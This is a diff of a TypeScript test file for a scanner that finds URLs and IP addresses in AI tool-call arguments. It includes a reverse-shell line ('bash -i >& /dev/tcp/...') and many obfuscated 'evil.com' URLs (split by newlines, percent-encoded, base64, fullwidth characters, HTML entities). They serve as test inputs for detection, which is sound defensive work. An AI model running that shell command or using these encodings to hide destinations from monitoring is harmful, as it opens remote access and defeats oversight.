@@ -1,5 +1,12 @@
 import { assert, describe, it } from "@effect/vitest"
-import { maxDestinationLength, maxDestinations, scanArguments, scanText, scanValue } from "../../src/governance/scan.ts"
+import { flagCall, flagInput } from "../../src/governance/flags.ts"
+import { maxDestinations } from "../../src/governance/found.ts"
+import * as scan from "../../src/governance/scan.ts"
+import { maxDestinationLength } from "../../src/governance/scan.ts"
+
+const scanText = (text: string) => scan.scanText(text).destinations
+const scanArguments = (json: string) => scan.scanArguments(json).destinations
+const scanValue = (value: unknown) => scan.scanValue(value).destinations
 
 const one = (text: string) => JSON.stringify({ field: text })
 
@@ -49,16 +56,114 @@ describe("scan: what must be flagged", () => {
     ],
     [
       "list without spaces",
-      "https://a.example,http://b.example;c://d|e://f",
-      ["https://a.example", "http://b.example", "c://d", "e://f"]
+      "https://a.example,http://b.example;cc://d|ee://f",
+      ["https://a.example", "http://b.example", "cc://d", "ee://f"]
     ],
     ["URL inside a URL is one", "https://a.example/?u=https://b.example", ["https://a.example/?u=https://b.example"]],
     ["address inside a URL is not repeated", "http://10.1.2.3/x", ["http://10.1.2.3/x"]],
     ["glued to other scripts", "请访问https://a.example。谢谢10.1.2.3", ["https://a.example", "10.1.2.3"]],
-    ["unique, in order", "b://1 a://1 b://1 10.0.0.1 10.0.0.1", ["b://1", "a://1", "10.0.0.1"]]
+    ["unique, in order", "bb://1 aa://1 bb://1 10.0.0.1 10.0.0.1", ["bb://1", "aa://1", "10.0.0.1"]]
   ])("%s", (_, text, expected) => {
     assert.deepStrictEqual(scanArguments(one(text)), expected)
     assert.deepStrictEqual(scanValue({ field: text }), expected)
+  })
+})
+
+describe("scan: as a URL parser reads", () => {
+  it.each<[text: string, expected: string]>([
+    ["https://\tevil.com", "https://evil.com"],
+    ["https:\n//evil.com/x", "https://evil.com/x"],
+    ["https:\r\n/\t/evil.com", "https://evil.com"],
+    ["ht\ntps://evil.com", "https://evil.com"],
+    ["https\t://evil.com", "https://evil.com"],
+    ["s\n3://bucket/key", "s3://bucket/key"],
+    ["mail\tto:a@b.example", "mailto:a@b.example"],
+    ["mailto:\na@b.example", "mailto:a@b.example"],
+    ["da\nta:text/html,x", "data:text/html,x"],
+    ["https:evil.com", "https:evil.com"],
+    ["HTTPS:evil.com/x", "HTTPS:evil.com/x"],
+    ["https:user@evil", "https:user@evil"],
+    ["https:localhost", "https:localhost"],
+    ["https:2130706433", "https:2130706433"],
+    ["https:0x7f000001", "https:0x7f000001"],
+    ["https:0177.0.0.1", "https:0177.0.0.1"],
+    ["https:[::1]/x", "https:[::1]/x"],
+    ["https:/\\evil.com", "https:/\\evil.com"],
+    ["https:\\new.example", "https:\\new.example"],
+    ["https:\\\\bad.example", "https:\\bad.example"],
+    ["http://0x7f.1/", "http://0x7f.1/"],
+    ["http://017700000001/", "http://017700000001/"],
+    ["http://[2001:db8::1]:80/x", "http://[2001:db8::1]:80/x"]
+  ])("%j", (text, expected) => {
+    assert.deepStrictEqual(scanArguments(one(text)), [expected])
+    assert.deepStrictEqual(scanValue({ field: text }), [expected])
+  })
+
+  it("what is reported is what a URL parser takes for the same URL", () => {
+    for (const text of ["https://\tevil.com", "https:\n//evil.com/x", "ht\ntps://evil.com", "https:evil.com"]) {
+      assert.strictEqual(new URL(scanArguments(one(text))[0] ?? "").href, new URL(text).href)
+    }
+  })
+
+  it.each([
+    ["::1", "::1"],
+    ["2001:db8::1", "2001:db8::1"],
+    [" fe80::1%eth0 ", "fe80::1%eth0"],
+    ["2001:db8::/32", "2001:db8::/32"],
+    ["::ffff:10.0.0.1", "::ffff:10.0.0.1"],
+    ["listen [::]:80;", "[::]:80"],
+    ["to [2001:db8::1]:443/x, then", "[2001:db8::1]:443/x"]
+  ])("IPv6: %s", (text, expected) => assert.deepStrictEqual(scanArguments(one(text)), [expected]))
+
+  it.each([
+    ["bash -i >& /dev/tcp/10.0.0.1/80", "10.0.0.1/80"],
+    ["/ip4/10.0.0.1", "10.0.0.1"],
+    ["name/10.0.0.1:80", "10.0.0.1:80"],
+    ["version: 10.0.0.1:80", "10.0.0.1:80"],
+    ["conversion: 10.0.0.1", "10.0.0.1"],
+    ["version_server=10.0.0.1", "10.0.0.1"],
+    ["ip.addr==10.0.0.1", "10.0.0.1"]
+  ])("still an address: %s", (text, expected) => assert.deepStrictEqual(scanArguments(one(text)), [expected]))
+
+  it("a version's field says so, and its neighbour's does not", () => {
+    const value = { appVersion: "1.2.3.4", versions: ["1.2.3.4", "1.2.3.5"], ip: "1.2.3.6", version: 1, "1.2.3.7": 1 }
+    for (const json of [
+      JSON.stringify(value),
+      JSON.stringify(value, null, 2),
+      JSON.stringify({ v: JSON.stringify(value) })
+    ]) {
+      assert.deepStrictEqual(scanArguments(json), ["1.2.3.6", "1.2.3.7"])
+      assert.deepStrictEqual(scanValue(JSON.parse(json)), ["1.2.3.6", "1.2.3.7"])
+    }
+  })
+})
+
+describe("scan: strict", () => {
+  it.each<[text: string, expected: ReadonlyArray<string>]>([
+    ["https%3A%2F%2Fevil.com%2Fx", ["https://evil.com/x"]],
+    ["https%253A%252F%252Fevil.com", ["https://evil.com"]],
+    ["ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ", ["https://evil.com"]],
+    ["&#104;ttps&colon;&#x2f;&sol;evil.com/x y", ["evil.com/x", "https://evil.com/x"]],
+    ["ask evil.com:8080/x or www.example.co.uk.", ["evil.com:8080/x", "www.example.co.uk"]],
+    ["aHR0cHM6Ly9ldmlsLmNvbS9hYmM=", ["https://evil.com/abc"]],
+    ["git@evil.com:org/repo", ["evil.com"]]
+  ])("%s", (text, expected) => {
+    assert.deepStrictEqual(scan.scanArguments(one(text), "strict").destinations, expected)
+    assert.deepStrictEqual(scan.scanValue({ field: text }, "strict").destinations, expected)
+    assert.notDeepEqual(scanArguments(one(text)), expected)
+  })
+
+  it.each([
+    "bob@example.com",
+    "com.example.app org.apache.commons",
+    "os.path.join main.py README.md run.sh user.me System.Net.Http",
+    "src/evil.com/index.js done.It was. e.g. 1.2.3",
+    "aGVsbG8gd29ybGQgaGVsbG8="
+  ])("leaves %s", (text) => assert.deepStrictEqual(scan.scanArguments(one(text), "strict").destinations, []))
+
+  it("lists a URL with escapes in it once", () => {
+    const url = "https://a.example/x%20y?u=%2Fz"
+    assert.deepStrictEqual(scan.scanArguments(one(url), "strict").destinations, [url])
   })
 })
 
@@ -80,6 +185,13 @@ describe("scan: what must not be flagged", () => {
     "https: http: the scheme",
     "://nothing //a.example/x",
     "12://x -://x",
+    "C://x c://x C:\\\\x {data:x} {data:x/y,z:1}",
+    "Mozilla/5.0 AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36",
+    "1.3.6.1 1.3.6.1.4.1.311.2",
+    "version 1.2.3.4, Version: 1.2.3.4, --version=1.2.3.4, <version>1.2.3.4</version>, >=1.2.3.4",
+    "a[::2] x[1::2] :: a::b Cafe::Add 00:11:22:33:44:55:66:77 10:30:00",
+    "http:1.1 https:8080 http:server http:axios.get(x) http:request.started",
+    "^https?:// https://[^\\s]+ https://... case x:\n// note",
     "2024-01-02T10:11:12.123Z 192.168.1",
     ""
   ])("%s", (text) => {
@@ -133,7 +245,7 @@ describe("scan: limits", () => {
   it("cuts a long destination, and not inside a character", () => {
     const long = `https://a.example/${"x".repeat(5000)}`
     assert.deepStrictEqual(scanText(long), [long.slice(0, maxDestinationLength)])
-    const [found = ""] = scanText(`x://${"😀".repeat(5000)}`)
+    const [found = ""] = scanText(`xyz://${"😀".repeat(5000)}`)
     assert.isTrue(found.isWellFormed())
     assert.isAtLeast(found.length, maxDestinationLength - 1)
     const [odd = ""] = scanText(`xy://${"😀".repeat(5000)}`)
@@ -142,8 +254,20 @@ describe("scan: limits", () => {
   })
 
   it("keeps the first destinations of many", () => {
-    const many = Array.from({ length: maxDestinations * 2 }, (_, at) => `x://${at}`)
+    const many = Array.from({ length: maxDestinations * 2 }, (_, at) => `xx://${at}`)
     assert.deepStrictEqual(scanValue(many), many.slice(0, maxDestinations))
+  })
+
+  it("counts those beyond the limit, each once, and bounds what it remembers", () => {
+    const many = Array.from({ length: maxDestinations + 50 }, (_, at) => `xx://${at}`)
+    const found = scan.scanValue([...many, ...many])
+    assert.deepStrictEqual(found, { destinations: many.slice(0, maxDestinations), omitted: 50 })
+    assert.strictEqual(scan.scanValue(many.slice(0, maxDestinations)).omitted, 0)
+    const flag = flagInput({ id: "c", name: "n", input: many })
+    assert.deepInclude(flag, { truncated: true, omitted: 50 })
+    assert.deepStrictEqual(flagCall({ id: "c", name: "n", arguments: JSON.stringify(many) }), flag)
+    assert.notProperty(flagInput({ id: "c", name: "n", input: many.slice(0, 3) }), "omitted")
+    assert.isAtLeast(scan.scanValue(Array.from({ length: 30_000 }, (_, at) => `xx://${at}`)).omitted, 29_900)
   })
 
   // 4 MB take some 10 to 150 ms each. Anything worse than linear takes minutes, so that a loaded machine does not matter.
@@ -154,7 +278,7 @@ describe("scan: limits", () => {
     ["colons", fill(":")],
     ["slashes", `a:${fill("/")}`],
     ["schemes without a body", fill('https://"')],
-    ["schemes in one body", `x://${fill("b:c,d://")}`],
+    ["schemes in one body", `xx://${fill("b:c,dd://")}`],
     ["numbers and dots", fill("1.")],
     ["digits", fill("1")],
     ["bad addresses", fill("1.1.1.1.1 ")],
@@ -166,11 +290,28 @@ describe("scan: limits", () => {
     ["backslashes", fill("\\")],
     ["escapes of escapes", fill("\\u005cu005c")],
     ["depth", fill("[")],
+    ["breaks", `https${fill("\n")}://x`],
+    ["breaks and colons", fill("s\n:")],
+    ["broken schemes", fill("https:\n/")],
+    ["hosts without slashes", `https:${fill("a.")}`],
+    ["colons and letters", fill("http:a")],
+    ["brackets", fill("[1:")],
+    ["versions", fill('"version":["1.2.3.4","1.2.3.4"],')],
+    ["lists of numbers", `[${fill('"1.2.3.4",')}]`],
+    ["addresses in quotes", fill('"::1" ')],
+    ["different addresses", Array.from({ length: 250_000 }, (_, at) => `xx://${at}`.padEnd(15)).join(" ")],
+    ["percent signs", fill("%25")],
+    ["entities", fill("&amp;#38;")],
+    ["base64", fill("aHR0cHM6Ly9h")],
+    ["short base64", fill("aHR0cHM6Ly9ldmlsLmNvbS9hYmM= ")],
+    ["host names", fill("a.com ")],
+    ["dots", fill("a.b-")],
     ["prose", fill("The fox, e.g. 1.2.3, jumps: over. ")]
   ])("4 MB of %s end in time", (_, text) => {
     const started = performance.now()
     scanArguments(text)
     scanValue([text])
-    assert.isBelow(performance.now() - started, 5000)
+    scan.scanText(text, "strict")
+    assert.isBelow(performance.now() - started, 7000)
   })
 })
